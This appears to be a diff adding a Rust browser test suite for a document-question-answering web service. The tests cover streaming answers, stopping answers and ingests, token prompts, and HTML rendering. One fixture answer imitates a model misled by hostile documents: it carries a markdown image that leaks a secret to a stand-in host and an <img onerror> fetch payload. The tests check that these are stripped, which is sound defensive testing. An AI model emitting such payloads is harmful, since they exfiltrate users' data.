@@ -1,0 +1,153 @@
+//! The page, in a real Chromium that does what a person does (`page/browser.py`).
+
+use std::collections::BTreeMap;
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::installed::{chromium, python_with_peers};
+use crate::project::{Project, samples};
+use crate::service::{Service, client, post};
+use crate::stand_in::{Reply, StandIn, openai_embeddings};
+
+const CHAT: &str = "/chat/completions";
+const EMBEDDINGS: &str = "/embeddings";
+
+/// What a model says that has read hostile documents.
+const ANSWER: &str = "Run one command [1]:\n\n```sh\nlanternctl keys rotate payments-signing\n```\n\n\
+    The new version is the **primary** at once [1].\n\n| What | How long |\n|:--|--:|\n| Grace period | 72 hours |\n\n\
+    ![a picture](http://images.example/leak.png?q=secret) <img src=x onerror=\"fetch('http://images.example')\">\n\n\
+    - see the script [2]\n";
+
+/// An answer in pieces of a few characters.
+fn chat(text: &str, between: Duration) -> Reply {
+    let piece = |text: &str| format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
+    let characters: Vec<char> = text.chars().collect();
+    let mut pieces: Vec<String> = characters.chunks(7).map(|some| piece(&some.iter().collect::<String>())).collect();
+    let end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
+    pieces.push(format!("data: {end}\n\ndata: [DONE]\n\n"));
+    Reply::stream(pieces, between)
+}
+
+/// A project with a pipeline over the sample documents whose answers a stand-in writes; `embed` says who embeds.
+fn project(api: &StandIn, embed: &str) -> Project {
+    let project = Project::new();
+    let pipeline = format!(
+        "version: 1\nname: lantern\nproviders:\n  api:\n    kind: openai\n    base_url: \"{}\"\n    api_key: k\n\
+         \u{20}   limits: {{ concurrency: 2 }}\n{embed}\
+         sources: [{{ files: {{ paths: [\"{}\"] }} }}]\nquery:\n  retrieve: {{ limit: 3 }}\n  answer: {{ model: api/m }}\n",
+        api.url(),
+        samples().join("guides").display(),
+    );
+    project.write("lantern.yaml", pipeline);
+    project
+}
+
+/// Ingests, serves, and has the browser do this.
+fn visited(project: &Project, arguments: &[&str], scenario: &str) {
+    let service = tokio::task::block_in_place(|| Service::start(project, arguments));
+    let mut browser = Command::new(python_with_peers());
+    browser.arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/page/browser.py"));
+    browser.arg(chromium()).arg(service.url()).arg(scenario);
+    let ended = tokio::task::block_in_place(|| browser.output()).unwrap();
+    assert!(ended.status.success(), "{scenario}: {}", String::from_utf8_lossy(&ended.stderr));
+}
+
+fn ingested(project: &Project) {
+    tokio::task::block_in_place(|| project.run(&["ingest", "-p", "lantern.yaml", "-q"])).expect_code(0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_question_is_answered_and_its_sources_open_at_their_lines() {
+    let api = StandIn::start().await;
+    api.always(CHAT, |_| chat(ANSWER, Duration::from_millis(5)));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "answer");
+    let last = api.requests().pop().unwrap().body["messages"].to_string();
+    assert!(last.contains("Run one command") && last.contains("And how often?"), "what was said before goes along: {last}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_answer_is_stopped_and_so_is_the_model() {
+    let api = StandIn::start().await;
+    let words: Vec<String> = (0..2000).map(|n| format!("word{n} ")).collect();
+    let words = words.concat();
+    api.always(CHAT, move |_| chat(&words, Duration::from_millis(20)));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "stop");
+    for _ in 0..100 {
+        if api.in_flight() == 0 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!((api.in_flight(), api.requests().len()), (0, 2), "each question is asked once, and none is left running");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ingest_is_watched_and_stopped() {
+    let api = StandIn::start().await;
+    api.always(EMBEDDINGS, |request| openai_embeddings(request, 8).after(Duration::from_millis(500)));
+    let embed = "embed: { model: api/e, dimensions: 8, batch: { items: 1 } }\n";
+    let project = project(&api, embed);
+    for n in 0..200 {
+        project.write(&format!("many/{n}.md"), format!("# Note {n}\n\nThe note of number {n} says how keys are rotated."));
+    }
+    let pipeline = String::from_utf8(project.read("lantern.yaml")).unwrap();
+    project.write("lantern.yaml", pipeline.replace(&samples().join("guides").display().to_string(), "many"));
+    visited(&project, &["-p", "lantern.yaml"], "ingest");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_view_is_for_all_in_any_light_on_a_phone_and_in_chinese() {
+    let api = StandIn::start().await;
+    api.always(CHAT, |_| chat(ANSWER, Duration::ZERO));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "views");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_token_is_asked_for_and_what_to_do_is_said() {
+    visited(&Project::new(), &["--token", "0123456789abcdef"], "token");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn html_comes_in_pieces_that_are_the_whole() {
+    let api = StandIn::start().await;
+    api.always(CHAT, |_| chat(ANSWER, Duration::from_millis(10)));
+    let project = project(&api, "");
+    ingested(&project);
+    let service = tokio::task::block_in_place(|| Service::start(&project, &["-p", "lantern.yaml"]));
+
+    let asked = json!({"question": "How do I rotate keys?", "html": true});
+    let text = client().post(service.at("/api/ask")).json(&asked).send().await.unwrap().text().await.unwrap();
+    let events: Vec<Value> =
+        text.lines().filter_map(|line| line.strip_prefix("data: ")).map(|data| serde_json::from_str(data).unwrap()).collect();
+    assert_eq!(events.last().unwrap()["type"], "done");
+    let mut pieces = BTreeMap::new();
+    for piece in events.iter().filter(|event| event["type"] == "html") {
+        let (block, open) = (piece["block"].as_u64().unwrap(), piece["open"] == true);
+        let before = pieces.insert(block, (piece["html"].as_str().unwrap(), open));
+        assert!(before.is_none_or(|(_, open)| open), "a finished piece came again");
+    }
+    assert!(pieces.len() > 4 && pieces.values().all(|(_, open)| !open));
+
+    let whole = json!({"question": "How do I rotate keys?", "html": true, "stream": false});
+    let (status, whole) = post(&service.at("/api/ask"), &whole).await;
+    let html: String = pieces.values().map(|(html, _)| *html).collect();
+    assert_eq!((status, whole["html"].as_str().unwrap()), (200, html.as_str()));
+    assert!(html.contains("<a class=\"cite\" href=\"#s1\"") && !html.contains("<img"), "{html}");
+    let (_, without) = post(&service.at("/api/ask"), &json!({"question": "How do I rotate keys?", "stream": false})).await;
+    assert!(without.get("html").is_none());
+
+    let page = client().get(service.at("/")).send().await.unwrap();
+    let tag = page.headers()["etag"].clone();
+    assert!(page.headers()["content-security-policy"].to_str().unwrap().contains("script-src 'self'"));
+    let again = client().get(service.at("/assets/app.js")).header("if-none-match", tag).send().await.unwrap();
+    assert_eq!(again.status(), 304);
+    assert_eq!(client().get(service.at("/assets/other.js")).send().await.unwrap().status(), 404);
+}
